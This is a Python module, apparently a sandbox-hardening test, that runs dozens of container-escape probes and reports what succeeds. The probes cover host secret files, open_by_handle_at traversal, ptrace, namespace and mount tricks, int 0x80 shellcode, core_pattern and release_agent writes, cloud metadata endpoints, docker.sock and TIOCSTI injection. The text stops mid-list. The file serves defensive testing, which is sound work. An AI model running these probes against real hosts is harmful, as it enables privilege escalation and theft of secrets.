"""A hostile function. `handler` takes {"attack": name, ...}, tries it, and answers {"escaped": bool, "evidence": str}.

Standard library and raw system calls only, so that no library declines on the attacker's behalf. An attack says "escaped" only for
something that it did obtain; what it was refused goes into the evidence, so that a test can see that the attack was really tried.
The exhaustion attacks (bombs, floods) end when they are stopped or after their own bound, which is far beyond every limit of a
sandbox. Attacks whose success would harm the machine that runs the tests are tried in a harmless form: a signal to everything is
SIGCONT, a file is opened for writing and not written.
"""

import ctypes
import errno
import fcntl
import glob
import mmap
import os
import platform
import resource
import select
import socket
import stat
import struct
import sys
import tempfile
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
ATTACKS = {}

# Numbers of system calls: x86_64, aarch64. Those from 424 on are the same everywhere.
NUMBERS = {
    "mount": (165, 40), "umount2": (166, 39), "pivot_root": (155, 41), "chroot": (161, 51), "ptrace": (101, 117),
    "unshare": (272, 97), "setns": (308, 268), "clone3": (435, 435), "bpf": (321, 280), "keyctl": (250, 219),
    "add_key": (248, 217), "perf_event_open": (298, 241), "userfaultfd": (323, 282), "io_uring_setup": (425, 425),
    "open_by_handle_at": (304, 265), "name_to_handle_at": (303, 264), "process_vm_readv": (310, 270),
    "process_vm_writev": (311, 271), "pidfd_open": (434, 434), "pidfd_getfd": (438, 438), "kcmp": (312, 272),
    "open_tree": (428, 428), "move_mount": (429, 429), "fsopen": (430, 430), "mount_setattr": (442, 442),
    "init_module": (175, 105), "finit_module": (313, 273), "kexec_load": (246, 104), "reboot": (169, 142),
    "settimeofday": (164, 170), "sethostname": (170, 161), "swapon": (167, 224), "acct": (163, 89),
    "syslog": (103, 116), "fanotify_init": (300, 262), "iopl": (172, None), "modify_ldt": (154, None), "quotactl": (179, 60),
    "personality": (135, 92), "memfd_secret": (447, 447), "clone": (56, 220), "lookup_dcookie": (212, 18),
}
COLUMN = 1 if platform.machine() == "aarch64" else 0

CLONE_NAMESPACES = {"mount": 0x00020000, "cgroup": 0x02000000, "uts": 0x04000000, "ipc": 0x08000000, "user": 0x10000000,
                    "pid": 0x20000000, "net": 0x40000000, "time": 0x00000080}


class Report:
    """What was tried: escapes and refusals."""

    def __init__(self):
        self.escapes, self.refusals = [], []

    def escape(self, text):
        self.escapes.append(str(text)[:300])

    def refused(self, text):
        self.refusals.append(str(text)[:200])

    def system_call(self, name, *arguments, label=None):
        """An escape where the call works. Any error is a refusal, but EFAULT, EINVAL and EBADF mean that the kernel did begin to
        look at the arguments, so they are spelled out in the evidence."""
        result = system_call(name, *arguments)
        what = label or name
        if result is None:
            self.refused(f"{what}: not on this architecture")
        elif result >= 0:
            self.escape(f"{what} = {result}")
        else:
            self.refused(f"{what}: {errno.errorcode.get(-result, -result)}")
        return result

    def opened(self, path, flags=os.O_RDONLY):
        """An escape where the file opens."""
        try:
            fd = os.open(path, flags | os.O_CLOEXEC | os.O_NONBLOCK)
        except OSError as error:
            self.refused(f"{path}: {errno.errorcode.get(error.errno, error.errno)}")
            return
        null = os.fstat(fd).st_rdev == os.makedev(1, 3)
        os.close(fd)
        if null:
            self.refused(f"{path}: covered by /dev/null")
        else:
            self.escape(f"opened {path}")

    def answer(self):
        return {"escaped": bool(self.escapes), "evidence": "; ".join((self.escapes or self.refusals)[:40]),
                "tried": len(self.escapes) + len(self.refusals)}


def system_call(name, *arguments):
    """The result, or the negative error number; None where this architecture lacks the call."""
    number = NUMBERS[name][COLUMN]
    if number is None:
        return None
    ctypes.set_errno(0)
    converted = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(number), *converted)
    return result if result >= 0 else -ctypes.get_errno()


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def in_child(body, seconds=10):
    """Runs `body` in a forked child and returns what it answered, or how it died: some attacks change or end their process."""
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(read_end)
            os.write(write_end, str(body()).encode()[:4000])
        except BaseException as error:  # whatever happens, the child must not go on as a second runtime
            os.write(write_end, f"refused: {error!r}".encode()[:4000])
        finally:
            os._exit(0)
    os.close(write_end)
    with os.fdopen(read_end, "rb") as pipe:
        text = pipe.read().decode(errors="replace")
    _, status = os.waitpid(pid, 0)
    return text or f"refused: ended with status {status}"


def report_from_child(report, label, body):
    """`body` returns "" for refused, else the evidence of an escape."""
    text = in_child(lambda: body() or "refused")
    if text.startswith("refused"):
        report.refused(f"{label}: {text}")
    else:
        report.escape(f"{label}: {text}")


def try_connect(report, family, address, label, seconds=0.4, refusal_is_contact=False):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as client:
            client.settimeout(seconds)
            client.connect(address)
            report.escape(f"connected to {label}")
    except ConnectionRefusedError as error:
        if refusal_is_contact:
            report.escape(f"{label} answered with a reset: packets get there")
        else:
            report.refused(f"{label}: {error}")
    except OSError as error:
        report.refused(f"{label}: {error}")


# Files of the host -------------------------------------------------------------------------------------------------------


@attack
def read_host_files(event, report):
    for path in ["/etc/shadow", "/etc/gshadow", "/etc/ssh/ssh_host_rsa_key", "/etc/sudoers", "/boot", "/var/lib/dpkg/status",
                 "/var/log", "/run", "/srv", "/mnt", "/media", *event.get("files", [])]:
        try:
            if os.path.isdir(path):
                names = os.listdir(path)
                report.escape(f"{path} lists {names[:5]}") if names else report.refused(f"{path} is empty")
            else:
                with open(path, "rb") as file:
                    report.escape(f"{path} holds {len(file.read(100))} bytes")
        except OSError as error:
            report.refused(f"{path}: {error.strerror}")
    for folder in ["/root", "/home"]:
        try:
            names = os.listdir(folder)
        except OSError as error:
            report.refused(f"{folder}: {error.strerror}")
        else:
            report.escape(f"{folder} lists {names[:5]}") if names else report.refused(f"{folder} is empty")


@attack
def find_canary(event, report):
    """Walks everything that can be seen, without following links, for files with the name that a test gave to the host's."""
    name, seen, deadline = event["canary_name"], 0, time.monotonic() + 20
    for folder, folders, files in os.walk("/", followlinks=False):
        if folder in ("/proc", "/sys"):
            folders[:] = []
        seen += len(files)
        if name in files or name in folders:
            report.escape(f"{folder}/{name}")
        if time.monotonic() > deadline:
            break
    report.refused(f"{seen} files walked")


@attack
def link_escape(event, report):
    """Symbolic and hard links, and .. beyond the root, to the host's files."""
    for number, path in enumerate(event["files"]):
        for way in ("symlink", "link"):
            link = f"/tmp/escape-{way}-{number}"
            try:
                getattr(os, way)(path, link)
                with open(link, "rb") as file:
                    report.escape(f"{way} to {path} holds {len(file.read(100))} bytes")
            except OSError as error:
                report.refused(f"{way} {path}: {error.strerror}")
        report.opened("/" + "../" * 40 + path.lstrip("/"))
        report.opened("/tmp/" + "../" * 40 + path.lstrip("/"))


@attack
def proc_root(event, report):
    """/proc/<pid>/root and /cwd and /fd lead out of a mount namespace when the process has another root."""
    for pid in sorted({1, os.getppid(), event.get("server_pid", 1)}):
        for path in event["files"]:
            report.opened(f"/proc/{pid}/root{path}")
            report.opened(f"/proc/{pid}/cwd/" + "../" * 40 + path.lstrip("/"))
        try:
            descriptors = os.listdir(f"/proc/{pid}/fd")
        except OSError as error:
            report.refused(f"/proc/{pid}/fd: {error.strerror}")
            continue
        for descriptor in descriptors:
            for path in event["files"]:
                report.opened(f"/proc/{pid}/fd/{descriptor}/" + "../" * 40 + path.lstrip("/"))


@attack
def inherited_descriptors(event, report):
    """Descriptors that the launcher forgot: a directory, a socket of the daemon, a namespace. Standard streams and what this
    runtime opened itself (its own connection to 127.0.0.1, epoll, pipes) are its own."""
    for entry in os.listdir("/proc/self/fd"):
        fd = int(entry)
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISDIR(mode) and not target.startswith("/proc/"):
            report.escape(f"descriptor {fd} is the folder {target}")
            continue
        if target.startswith(("mnt:", "net:", "user:", "pid:")) or "cgroup" in target:
            report.escape(f"descriptor {fd} is {target}")
            continue
        if stat.S_ISSOCK(mode):
            with socket.socket(fileno=os.dup(fd)) as copy:
                listening = copy.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
                if copy.family == socket.AF_UNIX or listening:
                    report.escape(f"descriptor {fd} is a {'listening ' if listening else ''}{copy.family.name} socket")
                    continue
        report.refused(f"{fd}: {target}")


@attack
def open_by_handle(event, report):
    """The way out of early containers: a file handle of the root folder of the file system (inode 2) opens anything on it."""
    class Handle(ctypes.Structure):
        _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("inode", ctypes.c_uint), ("generation", ctypes.c_uint)]

    for folder in ["/", "/var/task", "/usr", "/tmp", "/etc"]:
        try:
            fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
        except OSError as error:
            report.refused(f"{folder}: {error.strerror}")
            continue
        report.system_call("open_by_handle_at", fd, ctypes.byref(Handle(8, 1, 2, 0)), os.O_RDONLY, label=f"open_by_handle_at {folder}")
        os.close(fd)


@attack
def write_read_only_places(event, report):
    """/var/task, /opt, /var/runtime, the system folders, the root itself; also through a second, writable mapping or a chmod."""
    for folder in ["/var/task", "/opt", "/var/runtime", "/usr", "/usr/bin", "/lib", "/etc", "/", "/var", "/proc", "/sys"]:
        path = f"{folder.rstrip('/')}/attack-was-here"
        try:
            os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o600))
            report.escape(f"made {path}")
            os.unlink(path)
        except OSError as error:
            report.refused(f"{path}: {error.strerror}")
    here = os.path.realpath(__file__)
    for path in [here, sys.executable, "/etc/passwd", "/etc/resolv.conf", "/etc/hosts", "/var/runtime"]:
        for what, action in [("open for writing", lambda p: os.close(os.open(p, os.O_WRONLY))), ("chmod", lambda p: os.chmod(p, 0o777)),
                             ("utime", lambda p: os.utime(p, (1, 1))), ("rename", lambda p: os.rename(p, p + ".moved")),
                             ("truncate in place", lambda p: os.close(os.open(p, os.O_WRONLY | os.O_APPEND)))]:
            if not os.path.exists(path) or (os.path.isdir(path) and "open" in what):
                continue
            try:
                action(path)
                report.escape(f"{what} {path}")
            except OSError as error:
                report.refused(f"{what} {path}: {error.strerror}")


@attack
def dev_shm_and_devices(event, report):
    """Devices that give the disk, the memory or the terminal of the machine; and making such a device."""
    for pattern in ["/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/sd*", "/dev/vd*", "/dev/nvme*", "/dev/dm-*", "/dev/loop*",
                    "/dev/kvm", "/dev/fuse", "/dev/net/tun", "/dev/tty[0-9]*", "/dev/console", "/dev/input/*", "/dev/mapper/*",
                    "/dev/vhost-*", "/dev/cpu/*/msr", "/dev/dri/*", "/dev/ptmx", "/dev/pts/[0-9]*"]:
        for path in glob.glob(pattern) or [pattern]:
            report.opened(path, os.O_RDWR)


@attack
def make_devices(event, report):
    """mknod of the host's disk and memory, in every place that can be written."""
    for folder in ["/tmp", "/dev", "/dev/shm", "/var/task"]:
        for name, kind, device in [("disk", stat.S_IFBLK, os.makedev(254, 0)), ("sda", stat.S_IFBLK, os.makedev(8, 0)),
                                   ("mem", stat.S_IFCHR, os.makedev(1, 1)), ("null", stat.S_IFCHR, os.makedev(1, 3))]:
            path = f"{folder}/attack-{name}"
            try:
                os.mknod(path, 0o666 | kind, device)
                report.escape(f"made the device {path}")
                os.unlink(path)
            except OSError as error:
                report.refused(f"mknod {path}: {error.strerror}")


# Processes ---------------------------------------------------------------------------------------------------------------


@attack
def see_processes(event, report):
    """Everything in /proc but this process and the way down to it; and any other function's secret in an environment."""
    own = {os.getpid(), os.getppid(), 1}
    for pid in sorted(int(name) for name in os.listdir("/proc") if name.isdigit()):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                command = file.read(300).replace(b"\0", b" ").decode(errors="replace")
        except OSError as error:
            report.refused(f"/proc/{pid}: {error.strerror}")
            continue
        if pid not in own or " serve" in command:
            report.escape(f"process {pid}: {command}")
        else:
            report.refused(f"own process {pid}: {command}")


@attack
def read_environments(event, report):
    """The test's secrets stand in the environments of the server and of another function, not of this one."""
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                content = file.read()
        except OSError as error:
            report.refused(f"{path}: {error.strerror}")
            continue
        found = [secret for secret in event["secrets"] if secret.encode() in content]
        report.escape(f"{path} holds a secret") if found else report.refused(f"{path}: {len(content)} bytes of its own")


@attack
def signal_processes(event, report):
    """kill(pid, 0) tells whether a signal would be delivered. Every process number, and each way to name all of them."""
    own = {os.getpid(), os.getppid(), 1}
    for pid in [*range(2, 70000), event.get("server_pid", 2)]:
        if pid in own:
            continue
        try:
            os.kill(pid, 0)
            report.escape(f"process {pid} may be signalled")
        except PermissionError:
            report.escape(f"process {pid} is seen, though not for signals")
        except ProcessLookupError:
            pass
    report.refused("no other process in 2 to 70000")
    if not report.escapes:  # only where nothing of the host would hear it
        try:
            os.kill(-1, 18)  # SIGCONT
            report.refused("kill(-1) reached only what this sandbox holds")
        except OSError as error:
            report.refused(f"kill(-1): {error.strerror}")


@attack
def trace_processes(event, report):
    seize, read_word = 0x4206, 1
    for pid in sorted({1, os.getppid(), event.get("server_pid", 1)} - {os.getpid()}):
        report.system_call("ptrace", seize, pid, 0, 0, label=f"ptrace {pid}")
        report.system_call("ptrace", read_word, pid, 0, 0, label=f"peek {pid}")
    # Its own child too: ptrace rewrites system calls after a filter has seen them on older kernels.
    child = os.fork()
    if child == 0:
        time.sleep(5)
        os._exit(0)
    report.system_call("ptrace", seize, child, 0, 0, label="ptrace own child")
    os.kill(child, 9)
    os.waitpid(child, 0)


@attack
def other_processes_memory(event, report):
    buffer = ctypes.create_string_buffer(64)

    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    local = Vector(ctypes.addressof(buffer), 64)
    for pid in sorted({1, os.getppid(), event.get("server_pid", 1)} - {os.getpid()}):
        report.system_call("process_vm_readv", pid, ctypes.byref(local), 1, ctypes.byref(local), 1, 0, label=f"process_vm_readv {pid}")
        report.opened(f"/proc/{pid}/mem", os.O_RDWR)
        descriptor = system_call("pidfd_open", pid, 0)
        if descriptor is not None and descriptor >= 0:
            for wanted in range(12):
                report.system_call("pidfd_getfd", descriptor, wanted, 0, label=f"pidfd_getfd {pid} {wanted}")
            os.close(descriptor)


# Namespaces, mounts, privileges ------------------------------------------------------------------------------------------


@attack
def new_namespaces(event, report):
    for name, flag in CLONE_NAMESPACES.items():
        report_from_child(report, f"unshare {name}", lambda flag=flag: "made" if system_call("unshare", flag) == 0 else "")
        report_from_child(report, f"unshare user and {name}",
                          lambda flag=flag: "made" if system_call("unshare", flag | CLONE_NAMESPACES["user"]) == 0 else "")

    class CloneArguments(ctypes.Structure):
        _fields_ = [(field, ctypes.c_uint64) for field in ("flags", "pidfd", "child_tid", "parent_tid", "exit_signal", "stack",
                                                           "stack_size", "tls", "set_tid", "set_tid_size", "cgroup")]

    for name, flag in CLONE_NAMESPACES.items():
        arguments = CloneArguments(flags=flag | CLONE_NAMESPACES["user"], exit_signal=17)
        for call, values in [("clone3", (ctypes.byref(arguments), ctypes.sizeof(arguments))),
                             ("clone", (flag | CLONE_NAMESPACES["user"] | 17, 0, 0, 0, 0))]:
            result = system_call(call, *values)
            if result == 0:
                os._exit(0)
            if result > 0:
                os.waitpid(result, 0)
                report.escape(f"{call} {name}")
            else:
                report.refused(f"{call} {name}: {errno.errorcode.get(-result)}")


@attack
def join_namespaces(event, report):
    for pid in sorted({1, os.getppid(), event.get("server_pid", 1)}):
        for name in ["mnt", "net", "pid", "user", "ipc", "uts", "cgroup"]:
            try:
                fd = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
            except OSError as error:
                report.refused(f"{pid} {name}: {error.strerror}")
                continue
            report_from_child(report, f"setns {pid} {name}", lambda fd=fd: "joined" if system_call("setns", fd, 0) == 0 else "")
            os.close(fd)


@attack
def mounts(event, report):
    folder = tempfile.mkdtemp(dir="/tmp")
    target, tmpfs, proc, root = folder.encode(), b"tmpfs", b"proc", b"/"
    bind, move, remount, shared = 4096, 8192, 32, 1 << 20
    report.system_call("mount", tmpfs, target, tmpfs, 0, 0, label="mount tmpfs")
    report.system_call("mount", proc, target, proc, 0, 0, label="mount proc")
    report.system_call("mount", b"sysfs", target, b"sysfs", 0, 0, label="mount sysfs")
    report.system_call("mount", b"overlay", target, b"overlay", 0, f"lowerdir=/usr,upperdir={folder},workdir={folder}".encode(),
                       label="mount overlay")
    report.system_call("mount", root, target, 0, bind, 0, label="bind /")
    report.system_call("mount", b"/dev/vda", target, b"ext4", 0, 0, label="mount the disk")
    for place in (b"/", b"/var/task", b"/usr", b"/proc"):
        report.system_call("mount", 0, place, 0, remount | bind, 0, label=f"remount {place.decode()} writable")
        report.system_call("mount", 0, place, 0, shared, 0, label=f"make {place.decode()} shared")
        report.system_call("mount_setattr", -100, place, 0, ctypes.byref((ctypes.c_uint64 * 4)(0, 1, 0, 0)), 32,
                           label=f"mount_setattr {place.decode()}")
    report.system_call("mount", b"/proc", target, 0, move, 0, label="move /proc")
    report.system_call("fsopen", tmpfs, 0)
    report.system_call("open_tree", -100, root, 1, label="open_tree clone")
    report.system_call("move_mount", -100, root, -100, target, 0)


@attack
def unmounts(event, report):
    """What lies under a mount may be the host's: a read-only bind over a writable one, an empty folder over the data."""
    for place in ["/var/task", "/opt", "/var/runtime", "/etc", "/tmp", "/proc", "/usr", "/dev"]:
        report.system_call("umount2", place.encode(), 0, label=f"umount {place}")
        report.system_call("umount2", place.encode(), 2, label=f"umount {place} lazily")


@attack
def change_root(event, report):
    folder = tempfile.mkdtemp(dir="/tmp")
    report.system_call("pivot_root", folder.encode(), folder.encode())
    report.system_call("pivot_root", b".", b".", label="pivot_root in place")

    def classic():
        """chroot while keeping a descriptor outside, then climb."""
        inside = tempfile.mkdtemp(dir="/tmp")
        fd = os.open("/", os.O_RDONLY)
        if system_call("chroot", inside.encode()) != 0:
            return ""
        os.fchdir(fd)
        for _ in range(40):
            os.chdir("..")
        return f"chroot works; above it lies {os.listdir('.')[:6]}"

    report_from_child(report, "chroot", classic)


@attack
def become_root(event, report):
    for name, action in [("setuid 0", lambda: os.setuid(0)), ("setgid 0", lambda: os.setgid(0)), ("setgroups", lambda: os.setgroups([0])),
                         ("setresuid", lambda: os.setresuid(0, 0, 0))]:
        def body(action=action):
            # Inside a user namespace a process may already be its 0: what counts is power, which the effective set shows.
            action()
            return "effective capabilities" if int(status_field("CapEff"), 16) else ""
        report_from_child(report, name, body)
    for field in ("CapInh", "CapPrm", "CapEff", "CapAmb"):
        value = status_field(field)
        report.refused(f"{field} {value}") if int(value, 16) == 0 else report.escape(f"{field} is {value}")
    report.refused("no new privileges") if status_field("NoNewPrivs") == "1" else report.escape("new privileges may be gained")
    report.refused("filter on") if status_field("Seccomp") == "2" else report.escape("there is no system call filter")
    for path in ["/bin/su", "/usr/bin/sudo", "/bin/mount", "/usr/bin/passwd", "/usr/bin/newuidmap"]:
        if not os.path.exists(path):
            continue
        suid = os.stat(path).st_mode & stat.S_ISUID and not os.statvfs(path).f_flag & os.ST_NOSUID
        report.escape(f"{path} is setuid on a mount that honours it") if suid else report.refused(f"{path} cannot raise")


def status_field(name):
    with open("/proc/self/status") as file:
        for line in file:
            if line.startswith(name + ":"):
                return line.split()[1]
    return "0"


@attack
def setuid_file(event, report):
    """A setuid copy of a shell in /tmp, which another user on the host might run; and file capabilities."""
    path = "/tmp/attack-suid"
    with open(path, "wb") as file:
        file.write(b"#!/bin/sh\n")
    try:
        os.chmod(path, 0o4755)
        if not os.statvfs("/tmp").f_flag & os.ST_NOSUID:
            report.escape("/tmp honours setuid files")
        report.refused("a setuid file on a nosuid mount")
    except OSError as error:
        report.refused(f"chmod u+s: {error.strerror}")
    try:
        os.setxattr(path, "security.capability", struct.pack("<5I", 0x02000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0))
        report.escape("file capabilities can be set")
    except OSError as error:
        report.refused(f"security.capability: {error.strerror}")
    os.unlink(path)


# The kernel --------------------------------------------------------------------------------------------------------------


@attack
def kernel_interfaces(event, report):
    """Calls with a history of escapes. Arguments are right, so that a kernel that allows the call carries it out."""
    page = mmap.mmap(-1, 4096)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    program = struct.pack("<IIII", 1, 4, 8, 1)  # an array map with keys of 4, values of 8 bytes
    ctypes.memmove(address, program, len(program))
    report.system_call("bpf", 0, address, len(program), label="bpf map")
    ctypes.memset(address, 0, 256)
    report.system_call("userfaultfd", 1)
    report.system_call("userfaultfd", 0, label="userfaultfd of kernel faults")
    report.system_call("io_uring_setup", 4, address)
    ctypes.memset(address, 0, 256)
    ctypes.memmove(address, struct.pack("<II", 1, 128), 8)  # software event, its own size
    for process, cpu in [(0, -1), (-1, 0)]:
        report.system_call("perf_event_open", address, process, cpu, -1, 0, label=f"perf_event_open {process} {cpu}")
    for what in (-1, -2, -3, -4, -5):
        report.system_call("keyctl", 0, what, 1, 0, 0, label=f"keyctl ring {what}")
    report.system_call("add_key", b"user", b"attack", b"x", 1, -3)
    report.system_call("fanotify_init", 0, 0)
    report.system_call("init_module", address, 64, b"")
    report.system_call("kexec_load", 0, 0, 0, 0)
    report.system_call("acct", 0)
    report.system_call("swapon", b"/tmp/none", 0)
    report.system_call("syslog", 3, address, 4096, label="kernel log")
    report.system_call("iopl", 3)
    report.system_call("modify_ldt", 0, address, 16)
    report.system_call("memfd_secret", 0)
    report.system_call("kcmp", os.getpid(), os.getppid(), 0, 0, 0)
    report.system_call("sethostname", b"attack", 6)
    report.system_call("settimeofday", 0, address, label="settimeofday")
    report.system_call("quotactl", 0x80000100, b"/dev/vda", 0, address)
    # With the first magic number wrong the machine would not restart even where the call were allowed.
    if system_call("reboot", 0, 0, 0, 0) == -errno.EINVAL:
        report.escape("reboot would be carried out")
    else:
        report.refused("reboot refused")


@attack
def old_system_calls(event, report):
    """The 32-bit entry of x86 and x32 numbers pass filters that know 64-bit numbers only. In a child, which such a filter kills."""
    if platform.machine() != "x86_64":
        report.refused("not on this architecture")
        return

    def x32():
        """unshare(CLONE_NEWUSER) by its x32 number."""
        ctypes.set_errno(0)
        return "x32 unshare" if libc.syscall(ctypes.c_long(0x40000000 + 272), ctypes.c_long(0x10000000)) == 0 else ""

    def int80():
        # mov eax, 310 (unshare); mov ebx, CLONE_NEWUSER; int 0x80; ret
        code = b"\xb8\x36\x01\x00\x00\x53\xbb\x00\x00\x00\x10\xcd\x80\x5b\xc3"
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(code)
        function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
        return "32-bit unshare" if function() == 0 else ""

    report_from_child(report, "x32", x32)
    report_from_child(report, "int 0x80", int80)


@attack
def proc_and_sys_writes(event, report):
    """Opened for writing and not written: the open is what a read-only or missing mount refuses."""
    for path in ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hostname", "/proc/sys/vm/drop_caches",
                 "/proc/sys/fs/binfmt_misc/register", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/kernel/randomize_va_space",
                 "/proc/sysrq-trigger", "/proc/irq/0/smp_affinity", "/sys/kernel/uevent_helper", "/sys/power/state", "/sys/fs/cgroup/cgroup.procs",
                 "/sys/kernel/mm/transparent_hugepage/enabled", "/proc/1/oom_score_adj", "/sys/module/kvm/parameters/halt_poll_ns"]:
        report.opened(path, os.O_WRONLY)
    for path in glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True) + glob.glob("/sys/fs/cgroup/**/memory.limit_in_bytes", recursive=True):
        report.opened(path, os.O_WRONLY)


@attack
def kernel_secrets(event, report):
    for path in ["/proc/kcore", "/proc/kmsg", "/proc/kpagecount", "/proc/kpageflags", "/proc/slabinfo", "/proc/timer_list", "/proc/keys",
                 "/proc/vmallocinfo", "/proc/sched_debug", "/sys/kernel/debug", "/sys/kernel/tracing", "/sys/kernel/security",
                 "/sys/firmware"]:
        try:
            if os.path.isdir(path):
                names = os.listdir(path)
                report.escape(f"{path} lists {names[:5]}") if names else report.refused(f"{path} is empty")
                continue
            with open(path, "rb") as file:
                content = file.read(64)
            report.escape(f"{path} read") if content else report.refused(f"{path} is empty")
        except OSError as error:
            report.refused(f"{path}: {error.strerror}")
    try:
        with open("/proc/kallsyms") as file:
            line = file.readline()
        report.escape("addresses of the kernel") if line and int(line.split()[0], 16) else report.refused("kallsyms is zeros")
    except OSError as error:
        report.refused(f"/proc/kallsyms: {error.strerror}")


@attack
def terminal_injection(event, report):
    """TIOCSTI types into the terminal of the person who started the server; TIOCLINUX pastes."""
    for fd in [0, 1, 2]:
        for name, request, value in [("TIOCSTI", 0x5412, b"#"), ("TIOCLINUX", 0x541C, b"\x03"), ("TIOCSCTTY", 0x540E, b"\x00")]:
            try:
                fcntl.ioctl(fd, request, value)
                report.escape(f"{name} on {fd}")
            except OSError as error:
                report.refused(f"{name} on {fd}: {error.strerror}")
    report.opened("/dev/tty", os.O_RDWR)


@attack
def core_dumps(event, report):
    """A crash must not run the host's core handler on the function's memory, nor leave a file on the host."""
    limit = resource.getrlimit(resource.RLIMIT_CORE)
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30))
        report.escape("the limit of core files can be raised")
    except (OSError, ValueError) as error:
        report.refused(f"core limit stays {limit}: {error}")


# The network -------------------------------------------------------------------------------------------------------------


@attack
def reach_daemon(event, report):
    """The server's port on loopback, on each of the host's addresses and on the host's end of the own link."""
    gateways = []
    try:
        with open("/proc/net/route") as file:
            for line in list(file)[1:]:
                fields = line.split()
                if fields[1] == "00000000":
                    gateways.append(socket.inet_ntoa(struct.pack("<I", int(fields[2], 16))))
    except OSError as error:
        report.refused(f"/proc/net/route: {error.strerror}")
    for port in event["ports"]:
        for address in ["127.0.0.1", "127.0.0.2", "0.0.0.0"]:
            try_connect(report, socket.AF_INET, (address, port), f"{address}:{port}")
        try_connect(report, socket.AF_INET6, ("::1", port), f"[::1]:{port}")
        for address in {*event["addresses"], *gateways}:
            try_connect(report, socket.AF_INET, (address, port), f"{address}:{port}", refusal_is_contact=True)


@attack
def reach_metadata(event, report):
    for address in ["169.254.169.254", "169.254.170.2", "169.254.169.253", "100.100.100.200", "168.63.129.16", "192.0.0.192", "169.254.0.1"]:
        try_connect(report, socket.AF_INET, (address, 80), f"{address}:80", refusal_is_contact=True)
    for address in ["fd00:ec2::254", "fe80::1"]:
        try_connect(report, socket.AF_INET6, (address, 80), address, refusal_is_contact=True)


def own_addresses():
    addresses, previous = set(), ""
    with open("/proc/net/fib_trie") as file:
        for line in file:
            if "host LOCAL" in line:
                addresses.add(previous.split()[-1])
            previous = line
    return {address for address in addresses if not address.startswith("127.")}


@attack
def reach_networks(event, report):
    """The host's neighbours: the gateway and the networks that the test names, private ranges, other instances' links."""
    own = own_addresses()
    for address in [*event.get("addresses", []), "10.0.0.1", "10.213.0.1", "10.213.0.3", "172.17.0.1", "192.168.0.1", "192.168.1.1"]:
        if address in own:
            continue
        for port in (22, 80, 443, 9001):
            try_connect(report, socket.AF_INET, (address, port), f"{address}:{port}", seconds=0.15, refusal_is_contact=True)


@attack
def own_address(event, report):
    """Not an attack: tells where this instance listens, so that another one can try to get there."""
    report.refused(",".join(sorted(own_addresses())))


@attack
def other_runtime_apis(event, report):
    """The Runtime API of another instance: on its address, and anywhere on loopback but the own one."""
    own = os.environ.get("AWS_LAMBDA_RUNTIME_API", "127.0.0.1:9001")
    for address in [*(set(event.get("addresses", [])) - own_addresses()), "127.0.0.2", "127.0.1.1"]:
        for port in (9001, 2773, 9000, 9002, 8080):
            try_connect(report, socket.AF_INET, (address, port), f"{address}:{port}", seconds=0.2, refusal_is_contact=not address.startswith("127."))
    host, _, own_port = own.partition(":")
    for port in range(1, 65536):
        if str(port) in (own_port, "2773"):  # 2773: the instance's own address for secrets, which wants its session token
            continue
        with socket.socket() as client:
            if client.connect_ex((host, port)) == 0 and client.getsockname() != client.getpeername():
                report.escape(f"connected to {host}:{port}")
    report.refused(f"only {own} and the address for secrets listen on loopback")


@attack
def local_sockets(event, report):
    """Abstract unix sockets belong to the network namespace: those of the host must be neither seen nor reached."""
    try:
        with open("/proc/net/unix") as file:
            names = [line.split()[-1] for line in list(file)[1:] if "@" in line or "/" in line]
        report.escape(f"sees {names[:5]}") if names else report.refused("/proc/net/unix lists none")
    except OSError as error:
        report.refused(f"/proc/net/unix: {error.strerror}")
    for name in event.get("abstract", []):
        try_connect(report, socket.AF_UNIX, "\0" + name, f"@{name}")
    for path in ["/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket",
                 "/run/systemd/private", "/run/systemd/notify", "/dev/log", *event.get("sockets", [])]:
        try_connect(report, socket.AF_UNIX, path, path)


@attack
def raw_sockets(event, report):
    for name, arguments in [("raw ICMP", (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)), ("raw IP", (socket.AF_INET, socket.SOCK_RAW, 255)),
                            ("raw IPv6", (socket.AF_INET6, socket.SOCK_RAW, 58)), ("packet", (17, socket.SOCK_RAW, 0x0300)),
                            ("netfilter", (16, socket.SOCK_RAW, 12)), ("audit", (16, socket.SOCK_RAW, 9)), ("kobject", (16, socket.SOCK_RAW, 15)),
                            ("xfrm", (16, socket.SOCK_RAW, 6)), ("vsock", (40, socket.SOCK_STREAM, 0)), ("algorithms", (38, socket.SOCK_SEQPACKET, 0)),
                            ("bluetooth", (31, socket.SOCK_RAW, 1)), ("CAN", (29, socket.SOCK_RAW, 1)), ("TIPC", (30, socket.SOCK_RDM, 0)),
